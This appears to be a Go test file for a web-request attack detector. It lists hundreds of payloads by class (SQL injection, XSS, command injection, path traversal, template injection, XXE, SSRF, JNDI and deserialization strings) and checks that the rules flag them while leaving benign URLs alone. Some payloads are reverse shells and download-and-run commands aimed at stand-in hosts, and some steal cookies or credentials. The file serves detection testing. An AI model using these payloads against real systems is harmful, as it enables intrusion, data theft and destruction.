package rules

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/gatewatch/gatewatch/event"
)

// ownAttacks are payloads by class, written for these tests.
var ownAttacks = map[string][]string{
	"sqli": {
		"1' OR '1'='1", "1' or 1=1-- -", "admin'--", "' OR ''='", "1) OR (1=1", "1 AND SLEEP(5)",
		"1;WAITFOR DELAY '0:0:5'--",
		"1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ",
		"-1 UNION SELECT 1,2,3", "-1' UNION ALL SELECT NULL,NULL,concat(user(),0x3a,database())#",
		"1/**/UNION/**/SELECT/**/password/**/FROM/**/users", "1 UnIoN SeLeCt 1,@@version",
		"1' AND extractvalue(1,concat(0x7e,version()))-- ", "1' AND updatexml(1,concat(0x7e,user()),1)#",
		"1; DROP TABLE users--", "1'; EXEC xp_cmdshell('dir')--", "1 ORDER BY 10--", "1' ORDER BY 5#",
		"1' GROUP BY 1,2,3 HAVING 1=1--", "1 AND 1=1", "1 AND 1=2", "1' AND '1'='2", "1 OR 1=1",
		"x' AND email IS NULL; --", "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
		"1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64", "1' AND IF(1=1,SLEEP(3),0)-- ",
		"1' AND BENCHMARK(5000000,MD5(1))-- ", "1 AND pg_sleep(5)", "1';SELECT pg_sleep(5)--",
		"1' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE NULL END)--", "1 AND dbms_pipe.receive_message('a',5)=1",
		"1' || utl_http.request('http://x.example.org')||'", "1 AND 1=CONVERT(int,(SELECT @@version))",
		"1 HAVING 1=1", "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- ",
		"1 PROCEDURE ANALYSE(EXTRACTVALUE(1,1),1)", "1' INTO OUTFILE '/var/www/x.php'-- ",
		"1 UNION SELECT LOAD_FILE('/etc/passwd')", "'; INSERT INTO users VALUES('a','b')--",
		"1'; UPDATE users SET role='admin' WHERE name='x'--", "' or 'a' like 'a", "1' xor 1=1#", "1'&&'1'='1",
		"1'||1=1#", "1'=1#", "1\" or \"\"=\"", "1`) or 1=1#", "1')) or (('1'='1",
		"(SELECT(0)FROM(SELECT(SLEEP(5)))v)", "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z", "1%00' UNION SELECT 1--",
		"if(1=1,sleep(5),0)", "1 and(select*from(select(sleep(5)))a)", "1 RLIKE SLEEP(5)", "1;select 1;",
		"select * from users where id=1",
		"1' and 1=cast((select table_name from information_schema.tables limit 1) as int)--",
		"1 union/*!50000select*/1,2", "1+union+distinct+select+1",
		"' and 1=ctxsys.drithsx.sn(1,(select user from dual)) --",
		"1' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))-- ",
		"1' AND GTID_SUBSET(CONCAT(0x7e,version()),1)-- ", "' UNION SELECT sql FROM sqlite_master--",
		"1' AND randomblob(1000000000)--", "1 AND (SELECT 4523 FROM PG_SLEEP(5))", "1) AND 4=4 AND (7=7",
		"1' AND 7=7 AND 'abc'='abc", "1 OR NOT 1=2", "1 or true--", "' or true#", "'or 1 --",
		"1 AND EXISTS(SELECT * FROM users)", "1 AND (SELECT COUNT(*) FROM sysobjects)>0",
		"1;declare @q varchar(99);set @q='\\\\x.example.org\\a';exec master.dbo.xp_dirtree @q--", "admin' #",
		"admin'/*", "') or '1'='1'--", "1 or 1 in (select 1)", "1' order by 1,2,3,4-- +", "9999 or 2>1",
	},
	"xss": {
		"<script>alert(1)</script>", "<ScRiPt>alert(document.cookie)</sCrIpT>", "\"><img src=x onerror=alert(1)>",
		"<svg/onload=alert(1)>", "<svg onload=alert`1`>", "javascript:alert(1)", "<iframe src=javascript:alert(1)>",
		"<body onload=alert(1)>", "\" onmouseover=\"alert(1)", "' autofocus onfocus=alert(1) x='",
		"<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
		"<math><a xlink:href=javascript:alert(1)>x",
		"<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "<embed src=javascript:alert(1)>",
		"<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
		"'-alert(1)-'", "\";alert(1);//", "</script><script>alert(1)</script>", "<x onclick=alert(1)>click",
		"<marquee onstart=alert(1)>", "<input onfocus=alert(1) autofocus>",
		"<isindex action=javascript:alert(1) type=image>", "<form action=javascript:alert(1)><button>",
		"<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
		"<link rel=import href=data:text/html,<script>alert(1)</script>>",
		"<style>@import'http://x.example.org/a.css';</style>", "<base href=//x.example.org>",
		"{{constructor.constructor('alert(1)')()}}", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
		"<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><script>alert&#40;1&#41;</script>",
		"%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
		"<<script>alert(1)//<</script>", "<img/src='x'/onerror='alert(1)'>", "<audio src onloadstart=alert(1)>",
		"<div style=\"background:url(javascript:alert(1))\">", "<div style=width:expression(alert(1))>",
		"<textarea autofocus onfocus=alert(1)>", "<select onchange=alert(1)><option>1<option>2",
		"<template><script>alert(1)</script></template>",
		"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
		"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>", "data:text/html,<script>alert(1)</script>",
		"vbscript:msgbox(1)", "<img src=x onerror=location='//x.example.org/'+document.cookie>",
		"<script src=//x.example.org/a.js></script>", "<script>fetch('//x.example.org?c='+document.cookie)</script>",
		"onload=prompt(1)", "<a onmouseover=confirm(1)>x</a>", "[].filter.constructor('alert(1)')()", "${alert(1)}",
		"top['al'+'ert'](1)", "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
		"<image src=1 href=1 onerror=\"javascript:alert(1)\"></image>", "<keygen autofocus onfocus=alert(1)>",
		"<dialog open onclose=alert(1)><form method=dialog><button>", "\"><svg/onload=confirm(1)>",
		"-->'\"/></sCript><deTailS open x=\">\" ontoggle=(co\\u006efirm)``>",
	},
	"rce": {
		";id", "|id", "||whoami", "&& cat /etc/passwd", "`id`", "$(id)", "$(cat /etc/passwd)",
		";cat${IFS}/etc/passwd", "; ls -la /", "| nc -e /bin/sh 203.0.113.9 4444",
		"; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "; wget http://x.example.org/a.sh -O- | sh",
		"; curl http://x.example.org/$(whoami)", "127.0.0.1; ping -c 3 x.example.org", "& dir C:\\",
		"| type C:\\windows\\win.ini", "& net user hacker Pass /add", "; powershell -enc SQBFAFgA",
		"| powershell IEX(New-Object Net.WebClient).DownloadString('http://x.example.org')", "cmd /c whoami",
		"cmd.exe /c dir", "%0aid", "\nid\n", "; sleep 5", "| sleep 10 |", "& timeout /t 5",
		"; python -c 'import os;os.system(\"id\")'", "; perl -e 'exec \"/bin/sh\"'", "; php -r 'system(\"id\");'",
		"; ruby -e 'exec \"id\"'", "a;u\\name -a", "a;w'h'oami", "/bin/c?t /etc/pass??", "$(printf '\\x69\\x64')",
		";echo aWQ=|base64 -d|sh", "() { :;}; /bin/bash -c 'id'", ";nslookup x.example.org",
		"|nslookup -type=a `whoami`.x.example.org", "'; touch /tmp/x; '", "\"; id; \"", "x;chmod 777 /tmp/x;/tmp/x",
		"x && certutil -urlcache -split -f http://x.example.org/a.exe a.exe", "x|tee /tmp/x", ";uname${IFS}-a",
		";{cat,/etc/passwd}", "; ifconfig", "| ipconfig /all", "; netstat -an", "; ps aux", "; env", "; printenv",
		"; find / -name id_rsa", "; tar cf - /etc | nc 203.0.113.9 1", "; rm -rf /", "; kill -9 1", "|/usr/bin/id|",
		";/usr/bin/id;", "&ls&", "$((1+1))`id`", "<!--#exec cmd=\"id\"-->", "@(1+1)$(id)", ";systeminfo",
		"|| ping -n 3 127.0.0.1 ||", "; mkfifo /tmp/f; cat /tmp/f | sh", "| awk 'BEGIN{system(\"id\")}'",
		";busybox wget http://203.0.113.9/x",
		"cd /tmp; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh",
	},
	"path_traversal": {
		"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "..\\..\\..\\windows\\win.ini",
		"....//....//etc/passwd", "..;/..;/manager/html", "/etc/passwd", "/etc/shadow", "file:///etc/passwd",
		"%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd", "..%5c..%5cboot.ini",
		"../../../../proc/self/environ", "/proc/self/cmdline", "../../WEB-INF/web.xml",
		"../../../../etc/passwd%00.png", "C:\\windows\\system32\\drivers\\etc\\hosts", "c:/boot.ini",
		"/var/log/apache2/access.log", "../../../.ssh/id_rsa", "../../app/config/parameters.yml",
		"php://filter/convert.base64-encode/resource=index.php", "/var/www/html/config.php", "../config/database.yml",
		"..//..//..//etc//hosts", "/./././etc/passwd", "..%u2216..%u2216etc/passwd",
		"..%ef%bc%8f..%ef%bc%8fetc/passwd", "../../../../../../windows/system32/config/sam", "/root/.bash_history",
		"\\\\203.0.113.9\\share\\x", "..%00/..%00/etc/passwd", "%2e%2e%2f%2e%2e%2fwp-config.php",
		"../../wp-config.php", "/home/user/.aws/credentials", "../../../../../../../../etc/nginx/nginx.conf",
		"/usr/local/tomcat/conf/tomcat-users.xml", "..././..././etc/passwd", "/%5C../%5C../%5C../etc/passwd",
		"..%252f..%252f..%252fetc%252fhosts", "images/../../../secret.txt", "../index.php",
		"../../../../../apache/logs/error.log", "../../../../boot.ini",
	},
	"ssti": {
		"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "{{config}}", "{{config.items()}}",
		"{{self.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
		"{{request.application.__globals__}}", "{% import os %}{{os.popen('id').read()}}",
		"{{_self.env.registerUndefinedFilterCallback('exec')}}", "{php}echo `id`;{/php}",
		"${T(java.lang.Runtime).getRuntime().exec('id')}",
		"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
		"#set($x='')$x.class.forName('java.lang.Runtime')", "{{lipsum.__globals__['os'].popen('id').read()}}",
		"{{cycler.__init__.__globals__.os.popen('id').read()}}", "${{7*7}}", "@(7*7)", "{{7*'7'}}", "{{ '7'*7 }}",
		"{{dump(app)}}", "{% for c in [].__class__.__base__.__subclasses__() %}", "<%=system('id')%>",
		"#{system('id')}", "{{constructor.constructor('return process')()}}", "{{#with \"s\" as |string|}}{{/with}}",
		"[[${7*7}]]",
		"__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
		"{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
		"{{['id']|filter('system')}}", "{$smarty.version}", "{system('id')}", "{{ ''|attr('__class__') }}",
		"${class.getClassLoader()}", "%{7*7}", "{{url_for.__globals__}}", "{{get_flashed_messages.__globals__}}",
		"<%- global.process.mainModule.require('child_process').execSync('id') %>",
	},
	"nosqli": {
		"{\"$ne\":null}", "{\"$gt\":\"\"}", "{\"username\":{\"$ne\":1},\"password\":{\"$ne\":1}}",
		"';return true;var x='", "' || 1==1//", "'||this.password.match(/a.*/)//", "{\"$where\":\"sleep(5000)\"}",
		"{\"$regex\":\"^a\"}", "1;db.users.drop()", "$where: 'this.a==1'", "{\"$or\":[{},{\"a\":\"a\"}]}",
		"';sleep(5000);'", "'; while(1){}; var a='", "{$gt: ''}", "true, $where: '1 == 1'",
		"' && this.passwordzz.match(/.*/)//+%00", "{\"$func\":\"var_dump\"}", "[$ne]=1",
	},
	"ldap": {
		"*)(uid=*))(|(uid=*", "*)(&", "admin)(&)", "*)(|(objectClass=*", "admin*)((|userPassword=*)",
		"(&(cn=*)(userPassword=*))", "x*))%00", "*(|(mail=*))", "*)(objectClass=*)", "admin)(!(&(1=0", "*()|%26'",
		"(|(cn=a)(cn=b))", "user)(|(password=*))", "*)(sn=*",
	},
	"xpath": {
		"' or '1'='1' or ''='", "'] | //user/*[contains(*,'", "x' or name()='username' or 'x'='y",
		"' and count(/*)=1 and '1'='1", "//user[name/text()='a' or '1'='1']",
		"') or string-length(name(/*[1]))=4 or ('a'='b", "'] | //password | //x['",
		"' or substring(//user[1]/password,1,1)='a' or ''='", "doc('http://x.example.org/')",
		"count(//child::node())", "/*/user[position()=1]",
	},
	"xxe": {
		"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
		"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://x.example.org/a.dtd\">%d;]>",
		"<!DOCTYPE x SYSTEM \"http://x.example.org/x.dtd\">",
		"<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></x>",
		"<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">",
		"<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM 'expect://id'>]>",
		"<?xml version='1.0' encoding='UTF-16'?><!DOCTYPE a PUBLIC 'x' 'http://x.example.org/'>",
		"<!DOCTYPE replace [<!ENTITY ent \"x\"> ]>",
	},
	"ssrf": {
		"http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/",
		"http://127.0.0.1:8080/admin", "http://localhost:22", "http://[::1]/", "http://0x7f000001/",
		"http://2130706433/", "http://0177.0.0.1/", "gopher://127.0.0.1:6379/_FLUSHALL",
		"dict://127.0.0.1:11211/stats", "file:///etc/hosts", "http://10.0.0.1/", "http://192.168.1.1/admin",
		"http://172.16.0.1:2375/version", "http://127.1/", "http://0/", "http://[::ffff:127.0.0.1]/",
		"http://100.100.100.200/latest/meta-data", "http://169.254.170.2/v2/credentials", "http://localtest.me/",
		"http://127.0.0.1.nip.io/", "http://example.com@127.0.0.1/", "http://0.0.0.0:80",
		"http://[0:0:0:0:0:ffff:169.254.169.254]/", "http://instance-data/latest",
		"http://kubernetes.default.svc/api", "ldap://localhost:389/x", "http://①②⑦.⓪.⓪.①/", "tftp://203.0.113.9/x",
		"sftp://x.example.org:11111/", "jar:http://127.0.0.1!/", "http://169.254.169.254.xip.io/",
		"http://2852039166/latest/", "http://127.0.0.1#@example.com/", "//127.0.0.1/",
		"http://consul.service.consul:8500/v1/kv",
	},
	"rfi": {
		"http://x.example.org/shell.txt?", "http://203.0.113.9/c99.php", "https://x.example.org/r57.txt",
		"ftp://x.example.org/x.php", "http://x.example.org/evil.txt%00",
		"data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs=", "data:text/plain,<?php phpinfo();",
		"php://input", "expect://id", "zip://shell.jpg%23payload", "phar://x.phar/x", "//x.example.org/shell.php",
		"http://x.example.org/id.txt??", "http://203.0.113.9:8080/cmd.gif?&cmd=id",
	},
	"php_injection": {
		"<?php system('id'); ?>", "<?= `id` ?>", "system('id');", "phpinfo()", "eval($_POST[x])",
		"assert($_GET['a'])", "base64_decode('aWQ=')", "${@print(md5(1))}", "{${phpinfo()}}", "print(md5(31337));",
		"die(md5(1))", "file_put_contents('x.php','<?php')", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
		"a:1:{i:0;O:3:\"Foo\":0:{}}", "<?php @eval($_REQUEST['c']);?>", "preg_replace('/a/e','phpinfo()','a')",
		"call_user_func('system','id')", "create_function('','phpinfo();')",
		"-d allow_url_include=on -d auto_prepend_file=php://input", "allow_url_include=1", "$_SERVER['HTTP_X']",
		"${system(id)}", "array_map('system',['id'])", "shell_exec('id')", "passthru('id')", "var_dump(md5(123))",
		"<script language=\"php\">system(1)</script>", "exec('id')", "highlight_file(__FILE__)",
		"include('/etc/passwd')",
	},
	"java": {
		"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "${jndi:ldap://x.example.org/a}",
		"${${lower:j}ndi:rmi://x.example.org/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
		"%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
		"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
		"java.lang.Runtime.getRuntime().exec(\"id\")", "#_memberAccess['allowStaticMethodAccess']=true",
		"redirect:${#context['xwork.MethodAccessor.denyMethodExecution']}",
		"T(java.lang.Runtime).getRuntime().exec('id')", "new java.lang.ProcessBuilder({'id'}).start()",
		"(#rt=@java.lang.Runtime@getRuntime()).exec('id')",
		"{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x\"}", "aced0005737200",
		"H4sIAAAAAAAAAFvzloG1uIhBNzk/Vy8xKzE3JzEvJTFXLzk/Lz8vMQ8AAAA=",
		"${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "${dns:x.example.org}",
		"${url:UTF-8:http://x.example.org}", "javax.script.ScriptEngineManager",
		"ysoserial.payloads.CommonsCollections1", "${jndi:dns://${env:USER}.x.example.org}",
		"${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}",
	},
	"node": {
		"require('child_process').exec('id')", "process.mainModule.require('child_process').execSync('id')",
		"global.process.exit()", "__proto__[isAdmin]=true", "constructor.prototype.isAdmin=true",
		"{\"__proto__\":{\"admin\":true}}", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process')}()\"}",
		"res.end(require('fs').readFileSync('/etc/passwd'))", "new Function('return process')()",
		"eval('process.exit()')", "this.constructor.constructor('return process.env')()",
	},
	"dotnet": {
		"AAEAAAD/////AQAAAAAAAAAMAgAAAE",
		"{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
		"System.Diagnostics.Process.Start(\"cmd\")",
	},
	"python": {
		"__import__('os').system('id')", "os.system('id')", "subprocess.check_output('id',shell=True)",
		"eval(compile('x','','exec'))", "cos\nsystem\n(S'id'\ntR.", "exec(\"import os\")",
		"!!python/object/apply:os.system ['id']", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
	},
	"crlf": {
		"x\r\nSet-Cookie: a=b", "x%0d%0aLocation: http://x.example.org", "%0d%0a%0d%0a<script>alert(1)</script>",
		"x%E5%98%8A%E5%98%8DSet-Cookie:a=b", "x\nX-Injected: 1", "%0aHost: x.example.org",
		"x%0D%0AContent-Length: 0%0D%0A%0D%0AHTTP/1.1 200 OK", "\r\n Refresh: 0;url=//x.example.org",
		"a%250d%250aSet-Cookie:x=1", "%23%0dSet-Cookie:x=1",
	},
	"ssi": {
		"<!--#exec cmd=\"ls\" -->", "<!--#include virtual=\"/etc/passwd\" -->", "<!--#echo var=\"DATE_LOCAL\" -->",
		"<!--#printenv -->", "<esi:include src=\"http://x.example.org/\"/>", "<!--#include file=\"UUUU\"-->",
		"<!--#config timefmt=\"%A\" -->", "<!--#flastmod file=\"index.html\"-->",
	},
	"mail": {
		"a@example.com%0ACc:b@example.org", "a@example.com\r\nBcc: b@example.org", "x%0aSubject: hi",
		"a%0D%0ADATA%0D%0Ax", "x\nTo: b@example.org", "a\r\n.\r\nQUIT", "V100 CAPABILITY%0d%0aV101 FETCH 4791",
	},
	"disguised": {
		"un\u200bion se\u200blect 1,2\u200b,3", "<scr\u202eipt>alert\u202e(1)</script>", "'al'+'ert'(1)", "top['al'+'ert'](1)",
		"('\\141\\154\\145\\162\\164')(1)", "('sys'.'tem')('id')", "1' or json_extract('{}','$')=1--", "w^h^o^a^m^i",
		"; reboot", "; kubectl get pods", "& schtasks /create /tn x", "; systemctl stop x", "| tasklist", "/etc/nginx/nginx.conf",
		"/run/secrets/kubernetes.io/serviceaccount/token", "{\"py/object\":\"os.system\"}", "Process.spawn('id')",
		"groovy.lang.GroovyShell", "1 union values(1,2)", "select version()", "1 and gtid_subset(@@version,0)",
	},
	"open_redirect": {
		"//x.example.org", "///x.example.org/%2f..", "/\\x.example.org", "https:x.example.org",
		"//x.example.org%2f@example.com", "https://example.com@x.example.org", "http:\\\\x.example.org",
		"//%09/x.example.org", "/%2f%2fx.example.org", "javascript://x.example.org/%0aalert(1)",
		"//example.com%E3%80%82org",
	},
}

// attackContexts are the places in a request that a payload may stand in, and how it is encoded there.
var attackContexts = []struct {
	name string
	put  func(ev *event.Event, class, payload string)
}{
	{"query", func(ev *event.Event, class, payload string) {
		ev.Query = parameterOf(class) + "=" + url.QueryEscape(payload)
	}},
	{"second parameter", func(ev *event.Event, class, payload string) {
		ev.Path, ev.Query = "/api/items", "page=2&"+parameterOf(class)+"="+url.PathEscape(payload)+"&sort=asc"
	}},
	{"encoded twice", func(ev *event.Event, class, payload string) {
		ev.Query = parameterOf(class) + "=" + url.QueryEscape(url.QueryEscape(payload))
	}},
	{"path", func(ev *event.Event, _, payload string) { ev.Path = "/api/items/" + url.PathEscape(payload) }},
	{"user agent", func(ev *event.Event, _, payload string) { ev.UserAgent = payload }},
	{"referer", func(ev *event.Event, _, payload string) { ev.Referer = payload }},
}

// parameterOf is a parameter that attacks of the class aim at.
func parameterOf(class string) string {
	switch class {
	case "open_redirect", "ssrf", "rfi":
		return "url"
	}
	return "q"
}

// linkClasses only mean something as the value of a parameter.
var linkClasses = []string{"open_redirect", "ssrf", "rfi", "mail"}

// TestOwnAttacks: of each class nearly all are called attacks, wherever they stand.
func TestOwnAttacks(t *testing.T) {
	set, err := Builtin()
	if err != nil {
		t.Fatal(err)
	}
	m := set.NewMatcher()
	for class, payloads := range ownAttacks {
		hit, n := 0, 0
		var missed []string
		for _, payload := range payloads {
			if plain, err := url.QueryUnescape(payload); err == nil {
				payload = plain
			}
			for i, c := range attackContexts {
				if i > 2 && slices.Contains(linkClasses, class) {
					continue
				}
				var ev event.Event
				ev.Reset()
				ev.Time, ev.Method, ev.Path, ev.Status = scenarioStart, "GET", "/", 200
				ev.UserAgent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
				c.put(&ev, class, payload)
				m.Match(&ev)
				n++
				if ev.AttackScore >= 0.5 {
					hit++
				} else {
					missed = append(missed, fmt.Sprintf("%s: %q", c.name, payload))
				}
			}
		}
		if share := float64(hit) / float64(n); share < 0.9 {
			t.Errorf("%s: %.3f of %d, want 0.90; missed\n%s", class, share, n, strings.Join(missed, "\n"))
		} else {
			t.Logf("%-16s %3d of %3d", class, hit, n)
		}
	}
}

// TestOwnBenign: none of them is called an attack.
func TestOwnBenign(t *testing.T) {
	set, err := Builtin()
	if err != nil {
		t.Fatal(err)
	}
	m := set.NewMatcher()
	for _, target := range ownBenign {
		for _, linked := range []bool{false, true} {
			var ev event.Event
			ev.Reset()
			ev.Time, ev.Method, ev.Path, ev.Status = scenarioStart, "GET", "/", 200
			ev.UserAgent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
			if linked {
				ev.Referer = "https://shop.example.com" + target
			} else {
				ev.Path, ev.Query, _ = strings.Cut(target, "?")
			}
			if m.Match(&ev); ev.AttackScore >= 0.5 {
				t.Errorf("%s (linked from: %v): %.2f by %v", target, linked, ev.AttackScore, ev.Signatures)
			}
		}
	}
}
